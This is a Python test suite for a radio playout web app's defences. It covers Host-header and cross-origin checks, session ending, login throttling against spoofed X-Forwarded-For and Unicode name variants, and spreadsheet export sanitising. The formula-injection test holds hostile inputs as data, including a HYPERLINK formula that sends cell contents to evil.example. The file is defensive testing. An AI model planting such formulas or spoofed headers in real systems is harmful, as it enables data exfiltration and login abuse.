"""The web page against the probes of a security review: foreign Host names, cross-site
requests, a cookie kept after logging out, login throttling dodged by spelling or shared by a
proxy, who did what, and formulas smuggled into a spreadsheet."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from playout import config as config_mod
from playout.actions import ActionLog, Actor
from playout.app import App
from playout.daemon.control import Dispatcher, LocalControl, Route, clip_field, level_field
from playout.db.models import Airing
from playout.reports import export
from playout.reports.period import period_from
from playout.web.auth import LoginThrottle, throttle_name
from tests.web.conftest import PASSWORDS, FakeControl, Web, token

ZONE = "Asia/Ho_Chi_Minh"


def _login_form(c, name: str, password: str, **kw):  # noqa: ANN001, ANN202
    return c.post("/login", data={"name": name, "password": password, "csrf_token": token(c)}, **kw)


def test_a_foreign_host_name_is_refused_on_every_page(web: Web) -> None:
    c = web.login("kythuat")
    csrf = token(c, "/air-now")
    for path in ("/", "/now/live", "/login", "/log/export?format=csv"):
        r = c.get(path, headers={"Host": "evil.example"})
        assert r.status_code == 421, path
        assert "evil.example" in r.get_data(as_text=True)
    r = c.post("/skip", data={"csrf_token": csrf}, headers={"Host": "evil.example:8471"})
    assert r.status_code == 421 and not web.control.asked("/skip")
    assert c.get("/login", headers={"Host": "127.0.0.1:8471"}).status_code == 200
    assert c.get("/", headers={"Host": "localhost"}).status_code == 200


def test_a_configured_public_name_is_accepted(web: Web) -> None:
    env = {"PLAYOUT_WEB_ALLOWED_HOSTS": "playout.xa.example.vn"}
    app = App(config=config_mod.load(web.station.config, env=env), clock=web.clock)
    other = Web(web.station, app, FakeControl())
    c = other.client()
    assert c.get("/login", headers={"Host": "playout.xa.example.vn"}).status_code == 200
    assert c.get("/login", headers={"Host": "Playout.XA.example.vn:443"}).status_code == 200
    assert c.get("/login", headers={"Host": "xa.example.vn"}).status_code == 421


def test_an_unsafe_request_from_another_origin_is_refused_even_with_the_token(web: Web) -> None:
    c = web.login("kythuat")
    csrf = token(c, "/air-now")
    form = {"clip": "1", "level": "emergency", "confirm": "1", "csrf_token": csrf}
    for headers in ({"Origin": "http://127.0.0.1:9999"}, {"Origin": "null"}, {"Origin": "http://evil.example"},
                    {"Sec-Fetch-Site": "cross-site"}):  # fmt: skip
        r = c.post("/air-now", data=form, headers=headers)
        assert r.status_code == 403, headers
        assert c.post("/skip", data={"csrf_token": csrf}, headers=headers).status_code == 403
    assert not web.control.asked("/air-now") and not web.control.asked("/skip")
    same = c.post("/air-now", data=form, headers={"Origin": "http://localhost"})
    assert same.status_code == 302 and web.control.asked("/air-now")


def test_logging_out_ends_the_session_on_the_server(web: Web) -> None:
    c = web.login("kythuat")
    csrf = token(c, "/air-now")
    saved = c.get_cookie("playout_session").value
    assert c.post("/logout", data={"csrf_token": csrf}).status_code == 302
    thief = web.client()
    thief.set_cookie("playout_session", saved)
    assert thief.get("/log").status_code == 302  # back to the login page
    assert thief.post("/skip", data={"csrf_token": csrf}).status_code == 401
    assert not web.control.asked("/skip")
    # A password change ends every session of that account, on the server too.
    c = web.login("kythuat")
    kept = c.get_cookie("playout_session").value
    assert web.station.cli("users", "passwd", "kythuat", "--password-stdin", input="mat-khau-moi-2\n").exit_code == 0
    assert c.get("/log").status_code == 302
    again = web.client()
    again.set_cookie("playout_session", kept)
    assert again.get("/log").status_code == 302


def test_spellings_of_one_name_share_one_throttle(web: Web) -> None:
    from playout.users import UserRepository

    name = "Kỹthuật"
    UserRepository(web.app.db, web.clock).add(name, "technician", "mat-khau-dau-tien")
    nfd = unicodedata.normalize("NFD", name)
    spellings = [name, f" {name.upper()} ", name.lower(), nfd, f"\t{nfd.upper()}", nfd.lower() + "  "]
    assert {throttle_name(s) for s in spellings} == {throttle_name(name)}
    c = web.client()
    for spelled in spellings:
        assert _login_form(c, spelled, "sai").status_code in (401, 429)
    # Five guesses in all for the account, not five for each way of writing it.
    assert _login_form(c, name, "mat-khau-dau-tien").status_code == 429


def test_one_address_trying_many_names_is_throttled() -> None:
    from playout.clock import VirtualClock

    throttle = LoginThrottle(VirtualClock(datetime(2026, 11, 30, tzinfo=UTC)))
    for i in range(throttle.per_address):
        assert not throttle.blocked(f"ten-{i}", "10.0.0.9")
        throttle.failed(f"ten-{i}", "10.0.0.9")
    assert throttle.blocked("ten-moi", "10.0.0.9")
    assert not throttle.blocked("ten-moi", "10.0.0.10")


def _proxied(web: Web, proxy: str | None) -> Web:
    env = {"PLAYOUT_WEB_TRUSTED_PROXY": proxy or ""}
    return Web(web.station, App(config=config_mod.load(web.station.config, env=env), clock=web.clock), FakeControl())


def test_behind_a_trusted_proxy_one_person_cannot_lock_out_the_technician(web: Web) -> None:
    site = _proxied(web, "127.0.0.1")
    attacker = site.client()
    for i in range(30):  # one address, then many, all through the proxy
        r = _login_form(attacker, "kythuat", "sai", headers={"X-Forwarded-For": f"203.0.113.{i // 5}"})
        assert r.status_code in (401, 429)
    # Another person at the office, through the same proxy, is not blocked by the first one's
    # address; the account as a whole is (many addresses tried it)...
    office = site.client()
    r = _login_form(office, "lanhdao", PASSWORDS["lanhdao"], headers={"X-Forwarded-For": "192.168.1.20"})
    assert r.status_code == 302
    r = _login_form(site.client(), "kythuat", PASSWORDS["kythuat"], headers={"X-Forwarded-For": "192.168.1.21"})
    assert r.status_code == 429
    # ...but at the studio PC itself (127.0.0.1, no proxy) the technician still gets in.
    assert _login_form(site.client(), "kythuat", PASSWORDS["kythuat"]).status_code == 302


def test_a_forwarded_address_is_believed_only_from_the_trusted_proxy(web: Web) -> None:
    c = web.client()  # no trusted_proxy: X-Forwarded-For is the client's own claim
    for i in range(5):
        r = _login_form(c, "kythuat", "sai", headers={"X-Forwarded-For": f"198.51.100.{i}"})
        assert r.status_code == 401
    r = _login_form(c, "kythuat", PASSWORDS["kythuat"], headers={"X-Forwarded-For": "198.51.100.99"})
    assert r.status_code == 429  # a new claimed address each time bought no extra guesses
    # and a forwarded request is never "the studio PC": the local login is keyed apart.
    assert _login_form(web.client(), "kythuat", PASSWORDS["kythuat"]).status_code == 302
    site = _proxied(web, "10.1.1.1")  # a proxy elsewhere: 127.0.0.1's header is not believed
    for _ in range(5):
        _login_form(site.client(), "lanhdao", "sai", headers={"X-Forwarded-For": "192.168.1.30"},
                    environ_base={"REMOTE_ADDR": "10.1.1.1"})  # fmt: skip
    r = _login_form(site.client(), "lanhdao", PASSWORDS["lanhdao"], headers={"X-Forwarded-For": "192.168.1.31"},
                    environ_base={"REMOTE_ADDR": "10.1.1.1"})  # fmt: skip
    assert r.status_code == 302  # another office address behind the trusted proxy


def _routes(asked: list) -> dict:
    def air(body: dict, actor: Actor) -> tuple[int, dict]:
        asked.append(("air-now", actor))
        return 200, {"key": "manual@x/1", "clip_id": 1, "title": "Nhạc hiệu Đài", "level": body["level"].value,
                     "detail": "#1 Nhạc hiệu Đài (emergency)"}  # fmt: skip

    def skip(_body: dict, actor: Actor) -> tuple[int, dict]:
        asked.append(("skip", actor))
        return 200, {"skipped": True, "detail": "Nhạc hiệu Đài"}

    def status(_body: dict, _actor: Actor) -> tuple[int, dict]:
        return 200, FakeControl().call("GET", "/status", actor=Actor("x", "web", "-", "manager"))

    return {("GET", "/status"): Route(status, False, {}),
            ("POST", "/air-now"): Route(air, True, {"clip": clip_field, "level": level_field}),
            ("POST", "/skip"): Route(skip, True, {})}  # fmt: skip


def test_the_web_page_acts_through_the_control_authorisation_and_every_action_is_journalled(web: Web) -> None:
    asked: list = []
    journal = ActionLog(web.app.db, web.clock)
    site = Web(web.station, web.app, LocalControl(Dispatcher(_routes(asked), journal)))  # type: ignore[arg-type]
    c = site.login("kythuat")
    csrf = token(c, "/air-now")
    office = {"REMOTE_ADDR": "127.0.0.1"}
    assert c.post("/air-now", data={"clip": "1", "level": "emergency", "confirm": "1", "csrf_token": csrf},
                  environ_base=office).status_code == 302  # fmt: skip
    asking = c.post("/skip", data={"csrf_token": csrf})  # cutting the broadcast asks first
    assert asking.status_code == 200 and "Bỏ qua bài đang phát «Nhạc hiệu Đài»?" in asking.get_data(as_text=True)
    assert [what for what, _ in asked] == ["air-now"]
    assert c.post("/skip", data={"csrf_token": csrf, "confirm": "1"}).status_code == 302
    assert c.post("/library/1/retire", data={"csrf_token": csrf}).status_code == 302
    assert [(what, a.name, a.via, a.address, a.role) for what, a in asked] == [
        ("air-now", "kythuat", "web", "127.0.0.1", "technician"), ("skip", "kythuat", "web", "127.0.0.1", "technician")]
    # The dispatcher refuses a manager itself, whatever a page forgets to check.
    with pytest.raises(Exception) as info:
        LocalControl(Dispatcher(_routes(asked), journal)).call("POST", "/skip", actor=Actor("lanhdao", "web", "x", "manager"))
    assert getattr(info.value, "status", None) == 403
    rows, total = journal.between(web.clock.now() - timedelta(hours=1), web.clock.now() + timedelta(hours=1))
    assert total == 4
    assert [(r.action, r.actor, r.via, r.address, r.outcome) for r in reversed(rows)] == [
        ("air-now", "kythuat", "web", "127.0.0.1", "ok"), ("skip", "kythuat", "web", "127.0.0.1", "ok"),
        ("retire", "kythuat", "web", "127.0.0.1", "ok"), ("skip", "lanhdao", "web", "x", "refused: not permitted")]
    # Shown on the log page and in its exports.
    day = web.clock.now().astimezone(web.app.config.station.timezone).date().isoformat()
    page = c.get(f"/log?from={day}&to={day}").get_data(as_text=True)
    assert "ngừng phát bài" in page and "#1 Nhạc hiệu Đài" in page and "web · 127.0.0.1" in page
    # The station's clip was imported at the real date (the fixture's `playout import`), which
    # may be a later day than the test's clock: the export reaches it.
    real_day = max(day, datetime.now(web.app.config.station.timezone).date().isoformat())
    exported = c.get(f"/log/actions?from={day}&to={real_day}").get_data(as_text=True).lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(exported)))
    assert lines[0][:4] == ["Thời điểm", "Người thực hiện", "Từ đâu", "Thao tác"]
    by_web = [ln[3] for ln in lines[1:] if not ln[2].startswith("cli")]  # the station's clip came by `playout import`
    assert by_web == ["phát ngay", "bỏ qua", "ngừng phát bài", "bỏ qua"]
    assert any(ln[3] == "nạp bài" and ln[2].startswith("cli, pid ") for ln in lines[1:])
    xlsx = c.get(f"/log/export?format=xlsx&from={day}&to={day}")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.data))
    sheet = book["Thao tác thủ công"]
    assert [cell.value for cell in sheet[4]][1:4] == ["kythuat", "web, 127.0.0.1", "ngừng phát bài"]


def test_the_airing_log_names_who_aired_and_exports_neutralise_formulas(web: Web, tmp_path) -> None:  # noqa: ANN001
    app = web.app
    at = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)
    evil = ['=HYPERLINK("http://evil.example/?"&A3,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "Bình thường"]
    with app.db.session() as s:
        for i, title in enumerate(evil):
            s.add(Airing(key=f"manual@{i}/1", occurrence=f"manual@{i}", position=1, slot="manual", scheduled_at=at
                         + timedelta(minutes=i), title=title, programme=title, outcome="aired", manual=True, kind="segment", clip_id=1,
                         duration_ms=3000, played_ms=3000,
                         level="emergency", actor="=kythuat (web, 127.0.0.1)", reason=title))  # fmt: skip
        s.commit()
    period = period_from(None, at.date(), at.date(), app.config.station.timezone, at.date())
    fast, slow = tmp_path / "fast.csv", tmp_path / "slow.csv"
    export.write_csv(app.db, period, export.Filters(), "vi", fast)
    from unittest import mock

    with mock.patch.object(type(period), "constant_offset_minutes", return_value=None):
        export.write_csv(app.db, period, export.Filters(), "vi", slow)
    assert fast.read_bytes() == slow.read_bytes()
    with fast.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["Tiêu đề"] for r in rows] == ["'" + e if e[0] in "=+-@\t\r" else e for e in evil]
    assert all(r["Người thực hiện"] == "'=kythuat (web, 127.0.0.1)" for r in rows)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    c = web.login("lanhdao")
    page = c.get("/log?from=2026-11-30&to=2026-11-30").get_data(as_text=True)
    assert "=kythuat (web, 127.0.0.1)" in page  # who, on the log page
    book = openpyxl.load_workbook(io.BytesIO(c.get("/log/export?format=xlsx&from=2026-11-30&to=2026-11-30").data))
    sheet = book.worksheets[0]
    titles = [row[5] for row in sheet.iter_rows(min_row=4)]
    # The text itself, as text (a carriage return is stored as Excel's escape _x000D_).
    assert [cell.value.replace("_x000D_", "\r") for cell in titles] == evil
    assert {cell.data_type for cell in titles} == {"s"}  # never a formula
    tally_csv = tmp_path / "tally.csv"
    assert web.station.cli("tally", "--from", "2026-11-30", "--to", "2026-11-30", "--format", "csv",
                           "--out", str(tally_csv)).exit_code == 0  # fmt: skip
    names = [r[0] for r in csv.reader(io.StringIO(tally_csv.read_text(encoding="utf-8-sig")))][1:]
    assert names and not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_the_session_store_forgets_sessions_past_their_lifetime() -> None:
    from playout.clock import VirtualClock
    from playout.web.auth import SessionStore

    clock = VirtualClock(datetime(2026, 11, 30, tzinfo=UTC))
    store = SessionStore(clock, timedelta(hours=12))
    sid = store.start("kythuat")
    assert store.valid(sid, "kythuat") and not store.valid(sid, "lanhdao") and not store.valid(None, "kythuat")
    clock.advance(timedelta(hours=12, seconds=1))
    assert not store.valid(sid, "kythuat")
    store.start("lanhdao")  # a new login sweeps the stale ones out
    assert sid not in store._live  # noqa: SLF001
